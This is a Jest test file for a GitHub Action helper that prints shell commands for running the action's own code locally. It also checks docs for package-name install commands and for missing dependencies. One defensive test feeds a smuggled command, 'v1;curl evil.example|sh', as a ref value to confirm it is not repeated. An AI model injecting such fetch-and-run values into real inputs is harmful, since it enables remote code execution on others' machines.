/** What a comment tells its readers to run: this action's own code, and no name that somebody else may own. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { localWay } from '../../src/action/local-way.ts';
import { projectRoot } from '../support/project-root.ts';

test.each(['v1', 'main', 'sha'])('works as written, with the action at %s', (which) => {
  const folder = mkdtempSync(join(tmpdir(), 'local-way-'));
  try {
    const action = join(folder, 'acme', 'action');
    mkdirSync(join(action, 'dist'), { recursive: true });
    writeFileSync(join(action, 'dist/cli.js'), 'console.log(process.argv.slice(2).join(" "))');
    writeFileSync(join(action, 'package.json'), '{"type":"module"}');
    const git = (...args: string[]) => execFileSync('git', ['-C', action, ...args], { encoding: 'utf8' });
    git('init', '-q', '-b', 'main');
    git('add', '.');
    git('-c', 'user.name=t', '-c', 'user.email=t@example.org', 'commit', '-qm', 'action');
    git('tag', 'v1');
    git('config', 'uploadpack.allowAnySHA1InWant', 'true');
    const ref = which === 'sha' ? git('rev-parse', 'HEAD').trim() : which;
    const lines = localWay({
      env: { GITHUB_ACTION_REPOSITORY: 'acme/action', GITHUB_ACTION_REF: ref },
      serverUrl: `file://${folder}`,
      download: 'true',
      command: 'compare base.json.gz profile.json.gz',
    });
    const printed = execFileSync('sh', ['-e', '-c', lines.join('\n')], { cwd: folder, encoding: 'utf8' });
    expect(printed).toBe('compare base.json.gz profile.json.gz\n');
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test('a ref that a shell would run is not repeated', () => {
  const lines = localWay({
    env: { GITHUB_ACTION_REPOSITORY: 'acme/action', GITHUB_ACTION_REF: 'v1;curl evil.example|sh' },
    ...{ serverUrl: 'https://github.com', download: 'true', command: 'show profile.json.gz' },
  });
  expect(lines.join('\n')).not.toContain('evil');
});

test('nothing that people read tells them to run a package by a name', () => {
  const files = ['README.md', 'CONTRIBUTING.md', 'action.yml', 'report/action.yml'];
  for (const folder of ['docs', 'example-workflows', 'src']) {
    const found = readdirSync(join(projectRoot, folder), { recursive: true, encoding: 'utf8' });
    files.push(...found.filter((name) => /\.(md|yml|ts)$/.test(name)).map((name) => join(folder, name)));
  }
  expect(files.length).toBeGreaterThan(200);
  const named = files.filter((file) =>
    /\b(?:npx|npm (?:i|install|exec)|pnpm dlx|yarn dlx)\s+(?:-\S+\s+)*bootgate\b/.test(
      readFileSync(join(projectRoot, file), 'utf8'),
    ),
  );
  expect(named).toEqual([]);
});

test('the package has no dependencies: everything is in its bundles', () => {
  const manifest = JSON.parse(readFileSync(join(projectRoot, 'package.json'), 'utf8')) as object;
  expect(manifest).not.toHaveProperty('dependencies');
  const lock = JSON.parse(readFileSync(join(projectRoot, 'package-lock.json'), 'utf8')) as {
    packages: Record<string, object>;
  };
  expect(lock.packages['']).not.toHaveProperty('dependencies');
});
